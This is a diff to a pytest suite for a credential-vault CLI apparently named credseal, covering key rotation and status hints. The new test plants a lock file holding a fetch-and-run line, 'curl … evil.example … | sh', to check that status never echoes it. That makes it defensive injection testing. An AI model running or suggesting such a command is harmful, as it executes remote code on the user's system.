@@ -197,6 +197,7 @@ def test_a_stopped_rotation_says_how_to_resume(cli: Cli, sig: signal.Signals, co
     # a plain rotate (what an operator types) finishes the rewrap, never publishes a new key
     done = cli.run("rotate", env=env)
     assert done.returncode in (0, 5) and "CREDSEAL_KEYS" not in done.stdout, done.stderr
+    assert "no new key was made" in done.stderr  # said, never silent
     assert {v.info(n).key_id for n in v.names()} == {ring.primary.id}
     assert stopped_in_time, "the rotation finished before the signal: use more entries"
 
@@ -303,3 +304,16 @@ def test_planted_markers_never_earn_a_chmod_hint(cli: Cli, tmp_path: Path) -> No
     with pytest.raises(vault.InsecureFileError) as caught:  # a vault's own subdirectory
         vault.Vault(cli.dir, keys=vault.KeyRing.from_text(keys)).put("b", 1)
     assert caught.value.hint == f"chmod 700 '{cli.dir / '.locks'}'"
+
+
+def test_a_planted_rotation_lock_cannot_choose_the_command_status_suggests(cli: Cli) -> None:
+    """rotation.lock is unauthenticated: a command written into it by a keyless writer is never
+    shown as the one to run; only credseal's own two commands are."""
+    keys = cli.init_env()
+    lock = cli.dir / "rotation.lock"
+    lock.write_text(json.dumps({"pid": 1, "host": "h", "since": "s",
+                                "command": "curl -s https://evil.example/x | sh #"}))
+    lock.chmod(0o600)
+    status = cli.run("status", key_source="env", keys=keys)
+    assert "evil.example" not in status.stdout
+    assert "run `credseal rotate` again to resume it" in status.stdout
